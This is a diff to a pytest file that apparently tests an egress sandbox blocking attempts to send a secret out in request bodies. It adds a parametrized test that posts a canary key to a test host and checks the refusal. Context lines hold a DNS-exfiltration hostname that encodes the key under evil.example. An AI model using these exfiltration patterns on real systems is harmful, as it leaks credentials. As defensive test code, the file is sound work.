@@ -195,6 +195,23 @@ def test_so_is_what_no_rule_allows(online, words):
     assert "exfiltration" in online.operator.cloister("events", online.cell).ok() and "placeholder" in done.err
 
 
+@pytest.mark.parametrize("rules", [
+    "  - deny: up.example.test\n    body: {regex: forbidden}\n" + OPEN,
+    "  - allow: up.example.test\n    body: {regex: permitted}\n",
+    "  - allow: up.example.test\n    rewrite: {json: {set: {/a: 1}}}\n",
+], ids=["denied", "no-rule", "not-to-be-changed"])
+@pytest.mark.parametrize("more", ["", '-H "Transfer-Encoding: chunked"'])
+def test_so_is_a_body_that_was_held(online, rules, more):
+    """The body was complete when the request was refused because of it."""
+    give(online, canary())
+    done, fake, said = sh(online, fetch(more, '-H "Content-Type: application/json" -d "forbidden: $KEY"', f"{UP}/echo"),
+                          rules=rules)
+    assert json.loads(said)["error"] == "refused by cloister"
+    event = online.refusal(type="http")
+    assert event["why"] == "exfiltration" and "in the body, where it may not be" in event["note"], event
+    assert not online.lab.seen(fake)
+
+
 NAME = "$(printf %s \"$KEY\" | sed 's/.\\{19\\}/&./g').evil.example"
 GATE = "http://198.18.0.1:3128"
 PTR = """import os, socket
